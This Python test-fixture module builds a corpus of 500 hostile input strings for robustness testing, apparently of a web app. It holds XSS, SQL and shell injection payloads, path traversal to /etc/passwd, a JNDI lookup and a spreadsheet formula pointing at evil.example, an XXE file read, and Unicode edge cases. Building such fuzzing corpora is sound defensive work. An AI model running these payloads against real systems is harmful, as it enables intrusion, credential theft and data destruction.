"""Five hundred texts that somebody might type to make a program do what it should not."""

from __future__ import annotations

_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<style>*{display:none}</style>",
    "</textarea></title><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<input autofocus onfocus=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "$\\href{javascript:alert(1)}{x}$",
    ":red[x] :material/home: :smile:",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "`` ` `` ``` ~~~ # * _ - + > 1.",
    "https://evil.example/?c=1",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "constructor.constructor('alert(1)')()",
    "__proto__",
)
_STATEMENTS = (
    "'; drop table users; --",
    "' or '1'='1",
    '" or ""="',
    "1; select pg_sleep(5)",
    "') union select password_hash from user_credentials --",
    "$$; delete from focus_sessions; $$",
    "%(user_id)s %s %% :name ?",
    "\\'; copy users to program 'id'; --",
    "E'\\x27'",
    "_%_%%",
)
_COMMANDS = (
    "; id",
    "| cat /etc/passwd",
    "$(id)",
    "`id`",
    "&& shutdown -h now",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "\\\\evil\\share",
    "con.txt",
    "() { :; }; echo x",
    "${jndi:ldap://evil.example/a}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "%0d%0aSet-Cookie: a=b",
    "x\r\nSet-Cookie: a=b",
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
)
_LETTERS = (
    "\x01\x02\x03\x1b[31m",
    "\x7f\x80\x9f",
    "\ufeffbom",
    "\u202eexe.txt",
    "\u2066isolated\u2069",
    "z\u0301\u0302\u0303\u0304\u0305",
    "\u200b\u200c\u200d\u2060",
    "\u2028line\u2029paragraph",
    "\ufffe\uffff",
    "\U0001f469\u200d\U0001f469\u200d\U0001f466",
    "\U0010ffff",
    "İıſK ß ǅ",
    "日本語 العربية עברית ไทย",
    "\ufdfd\U0001242b",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e999",
    "{}",
    "[]",
    '{"a":1}',
    "None",
    "\\",
    "\\u0000",
    "'",
    '"',
    "%",
    "%00",
    "%n%n%n",
)
_REFUSED = ("\x00", "a\x00b", "\ud800", "\udfff tail", "\udc00\ud800")
"""What can't be stored."""

_AROUND = ("{}", "{} end", "start {}", "„{}“", "<b>{}</b>", "'{}'", "{}\n{}")

_harmful = (*_MARKUP, *_STATEMENTS, *_COMMANDS, *_LETTERS)
HOSTILE = (
    tuple(dict.fromkeys(around.replace("{}", text) for around in _AROUND for text in _harmful))[
        : 500 - len(_REFUSED)
    ]
    + _REFUSED
)
FOR_THE_EYE = (*_MARKUP, *_COMMANDS[-4:], *_LETTERS[:4])
"""Those that aim at who looks at them."""


def storable(text: str) -> bool:
    return text not in _REFUSED
